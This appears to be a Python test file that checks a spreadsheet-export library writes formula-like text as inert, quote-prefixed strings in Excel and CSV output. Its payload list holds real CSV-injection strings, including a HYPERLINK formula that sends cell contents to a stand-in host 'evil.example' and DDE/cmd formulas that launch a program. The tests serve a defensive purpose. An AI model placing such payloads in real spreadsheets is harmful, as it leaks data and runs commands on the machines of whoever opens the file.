"""Text that looks like a formula stays text in every file we write (Excel and CSV)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from analysis.export.ledger_workbook import write_ledger_workbook, write_template
from analysis.export.load_report import render_csv
from analysis.export.safe import FORMULA_TRIGGERS
from analysis.load import load_ledger

#: Real payloads: the OWASP CSV-injection examples, DDE, and the leading characters
#: Excel and LibreOffice treat as the start of a formula (tab and CR are stripped first).
PAYLOADS = (
    '=HYPERLINK("http://evil.example/leak/"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=1+1",
    "-",
    "+",
    "@",
)

#: ``<f>`` or ``<f t="shared" …>`` in sheet XML; data validations use ``<formula1>``.
_FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")


def assert_no_formula_elements(path: Path) -> None:
    """No worksheet of the package stores a cell formula."""
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert not _FORMULA_ELEMENT.search(archive.read(name)), name


def assert_text_cells(path: Path, expected: dict[tuple[str, str], str]) -> None:
    """Each (sheet, cell) holds the expected string as text, quote-prefixed if formula-like."""
    wb = openpyxl.load_workbook(path)
    for (sheet, ref), value in expected.items():
        cell = wb[sheet][ref]
        assert cell.data_type == "s", (sheet, ref, cell.data_type)
        assert cell.value == value, (sheet, ref, cell.value)
        assert cell.quotePrefix == value.startswith(FORMULA_TRIGGERS), (sheet, ref)


def _events() -> pd.DataFrame:
    n = len(PAYLOADS)
    return pd.DataFrame(
        {
            "event_id": [f"E{i}" for i in range(n)],
            "programme": list(PAYLOADS),
            "name": list(PAYLOADS),
            "event_type": ["roadshow"] * n,
            "region": list(PAYLOADS),
            "date": pd.to_datetime(["2023-10-28"] * n),
            "note": list(PAYLOADS),
        }
    )


def _signings() -> pd.DataFrame:
    n = len(PAYLOADS)
    return pd.DataFrame(
        {
            "signing_id": list(PAYLOADS),
            "programme": ["科创中国"] * n,
            "title": list(PAYLOADS),
            "stage": ["signed"] * n,
            "mode": ["transfer"] * n,
            "region": ["杭州"] * n,
            "field": list(PAYLOADS),
            "date": pd.to_datetime(["2023-10-28"] * n),
            "value": [1.0] * n,
            # The analyst's own text of a quantity is written as typed.
            "value_text": list(PAYLOADS),
        }
    )


def test_ledger_workbook_keeps_payloads_as_text(tmp_path: Path) -> None:
    path = write_ledger_workbook(
        {"events": _events(), "signings": _signings()}, tmp_path / "l.xlsx", title="=1+1"
    )
    assert_no_formula_elements(path)
    expected = {}
    for i, payload in enumerate(PAYLOADS, start=2):
        # 活动: B 项目名称, C 活动名称, E 地区.  签约: A 编号, D 成果名称, I 技术领域, L 金额.
        for ref in ("B", "C", "E"):
            expected["活动", f"{ref}{i}"] = payload
        for ref in ("A", "D", "I", "L"):
            expected["签约", f"{ref}{i}"] = payload
    expected["说明", "A1"] = "=1+1"  # the title
    assert_text_cells(path, expected)


def test_template_has_no_cell_formulas(tmp_path: Path) -> None:
    assert_no_formula_elements(write_template(tmp_path / "template.xlsx"))


def test_payloads_read_back_as_text(tmp_path: Path) -> None:
    path = write_ledger_workbook({"events": _events()}, tmp_path / "l.xlsx")
    names = load_ledger(path).events["name"].tolist()
    # The loader trims surrounding whitespace (the tab and CR) and keeps the rest verbatim.
    assert names == [p.strip() for p in PAYLOADS]


def test_validate_csv_keeps_rejected_payloads_inert(tmp_path: Path) -> None:
    # Every payload as an unknown category: rejected, and its value lands in the CSV report.
    frame = _events().assign(event_type="路演")
    path = write_ledger_workbook({"events": frame}, tmp_path / "l.xlsx")
    wb = openpyxl.load_workbook(path)
    for i, payload in enumerate(PAYLOADS, start=2):
        wb["活动"][f"D{i}"].value = payload  # 活动类型
        wb["活动"][f"D{i}"].data_type = "s"
    wb.save(path)
    report = load_ledger(path).report
    assert len(report.rejections) == len(PAYLOADS)
    rows = list(csv.DictReader(io.StringIO(render_csv(report))))
    values = [row["value"] for row in rows]
    # A leading apostrophe stops Excel from evaluating; stripped payloads as the loader read them.
    assert values == ["'" + p.strip() if p.strip() else p for p in PAYLOADS]
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_TRIGGERS), row


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_starts_like_a_formula(payload: str) -> None:
    # The list above really is a list of payloads, not ordinary text.
    assert payload.startswith(FORMULA_TRIGGERS)


# ---------------------------------------------------------------------------- extract


def _extract_run(tmp_path: Path, output: Path, fmt: str) -> None:
    import argparse

    from analysis.commands import extract as command

    report = tmp_path / "report.txt"
    # Each payload opens a sentence that holds one statistic, so it lands in the 'sentence'.
    lines = [f"{payload}共举办{i + 1}场活动。" for i, payload in enumerate(PAYLOADS)]
    report.write_text("\n".join(lines) + "\n", encoding="utf-8")
    args = argparse.Namespace(file=report, output=output, format=fmt, period="2023")
    assert command.run(args) == 0


def test_extract_xlsx_keeps_payloads_as_text(tmp_path: Path) -> None:
    out = tmp_path / "stats.xlsx"
    _extract_run(tmp_path, out, "xlsx")
    assert_no_formula_elements(out)
    ws = openpyxl.load_workbook(out).active
    header = [c.value for c in ws[1]]
    column = header.index("原文句子 sentence") + 1
    sentences = [ws.cell(row=i, column=column) for i in range(2, ws.max_row + 1)]
    assert len(sentences) == len(PAYLOADS)
    for cell in sentences:
        assert cell.data_type == "s"
        assert cell.quotePrefix == cell.value.startswith(FORMULA_TRIGGERS)
    _assert_sentences_quote_payloads([cell.value for cell in sentences])


def _assert_sentences_quote_payloads(sentences: list[str]) -> None:
    """Each sentence is the end of its payload line (! and ? end sentences too)."""
    lines = [
        re.sub(r"\s+", " ", payload).strip() + f"共举办{i + 1}场活动。"
        for i, payload in enumerate(PAYLOADS)
    ]
    assert all(line.endswith(s) for line, s in zip(lines, sentences, strict=True))
    # Most sentences start with the payload itself, so the defence is really exercised.
    assert sum(s.startswith(FORMULA_TRIGGERS) for s in sentences) >= 10


def test_extract_csv_keeps_payloads_inert(tmp_path: Path) -> None:
    out = tmp_path / "stats.csv"
    _extract_run(tmp_path, out, "csv")
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_TRIGGERS), row
    quoted = [r["sentence"] for r in rows]
    assert sum(s.startswith("'") for s in quoted) >= 10
    _assert_sentences_quote_payloads([s.removeprefix("'") for s in quoted])


# ---------------------------------------------------------------------------- assessment form


def _form(tmp_path: Path, payload: str) -> Path:
    from analysis.assessment import assess
    from analysis.export.form import write_form

    stats = pd.DataFrame(
        {
            "programme": ["P"] * 3,
            "period": ["2023"] * 3,
            "measure": ["attendees_onsite", "budget_planned", "budget_spent"],
            "breakdown": [""] * 3,
            "value": [240.0, 2e5, 1.9e5],
            "unit": ["person", "yuan", "yuan"],
            "qualifier": ["exact"] * 3,
        }
    )
    targets = pd.DataFrame(
        {
            "indicator_id": ["1", "2"],
            "programme": ["P", "P"],
            "level1": ["产出指标", "满意度指标"],
            "level2": ["数量指标", "服务对象满意度"],
            "level3": [payload, payload + "满意度"],
            "target": ["≥300人", "≥90%"],
            "weight": [60, 30],
            "measure": ["attendees_onsite", ""],
            "actual": ["", "95%"],
            "reason": [payload, ""],
        }
    )
    info = {f: payload for f in ("name", "department", "implementer", "goal", "outcome")}
    result = assess(stats, targets, info={**info, "year": 2023})
    return write_form(result, tmp_path / "form.xlsx")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_assessment_form_keeps_payloads_as_text(tmp_path: Path, payload: str) -> None:
    path = _form(tmp_path, payload)
    assert_no_formula_elements(path)
    wb = openpyxl.load_workbook(path)
    holding = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    assert cell.quotePrefix, (ws.title, cell.coordinate)
                if isinstance(cell.value, str) and payload.strip() in cell.value:
                    holding.append(cell.value)
    # Name, department, implementer, goal, outcome, two indicator names and a reason.
    assert len(holding) >= 6, holding


def test_extract_xlsx_is_reproducible(tmp_path: Path) -> None:
    import time

    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    _extract_run(tmp_path, first, "xlsx")
    time.sleep(1.1)  # openpyxl stamps whole seconds: make sure the clock has moved on
    _extract_run(tmp_path, second, "xlsx")
    assert first.read_bytes() == second.read_bytes()
